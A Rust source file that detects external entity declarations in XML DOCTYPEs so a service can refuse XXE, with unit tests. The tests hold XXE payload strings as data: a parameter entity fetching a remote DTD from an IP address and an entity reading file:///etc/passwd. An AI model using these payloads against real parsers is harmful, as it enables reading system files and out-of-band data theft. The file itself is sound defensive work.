//! What an XML body's document type declaration may not do.
//!
//! A general entity the body uses is refused where it is used (`request.rs`: expanding it
//! is how XXE works). An external entity declared in the DTD and used only there — the
//! out-of-band XXE, `<!ENTITY % remote SYSTEM "http://…"> %remote;` — never appears in the
//! body, yet a parser that honours the DTD fetches it: such a declaration is refused here.
//! An external DTD itself (`<!DOCTYPE html PUBLIC "…" "….dtd">`) is not an entity and stays
//! allowed, as do internal entities that are declared and not used.

/// The name of the first entity the declaration `doctype` (what follows `<!DOCTYPE`)
/// declares as external (`SYSTEM` or `PUBLIC`), if any.
pub fn external_entity(doctype: &str) -> Option<String> {
    let mut rest = doctype;
    while let Some(at) = rest.find("<!ENTITY") {
        let declaration = &rest[at + "<!ENTITY".len()..];
        let end = declaration.find('>').unwrap_or(declaration.len());
        let mut words = declaration[..end].split_ascii_whitespace();
        let mut name = words.next().unwrap_or_default();
        let parameter = name == "%";
        if parameter {
            name = words.next().unwrap_or_default();
        }
        if matches!(words.next(), Some("SYSTEM" | "PUBLIC")) {
            return Some(format!("{}{name}", if parameter { "%" } else { "" }));
        }
        rest = &declaration[end..];
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn external_entities_are_found_internal_ones_and_external_dtds_are_not() {
        let oob = "foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; %intern; ]";
        assert_eq!(external_entity(oob).as_deref(), Some("%remote"));
        assert_eq!(
            external_entity("foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM \"file:///etc/passwd\">]").as_deref(),
            Some("xxe")
        );
        assert_eq!(
            external_entity("r [<!ENTITY a \"x\"><!ENTITY p PUBLIC \"-//X//EN\" \"http://x/p\">]").as_deref(),
            Some("p")
        );
        assert_eq!(external_entity("note [<!ENTITY writer \"Ann\"><!ELEMENT note ANY>]"), None);
        assert_eq!(external_entity("html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\""), None);
    }
}
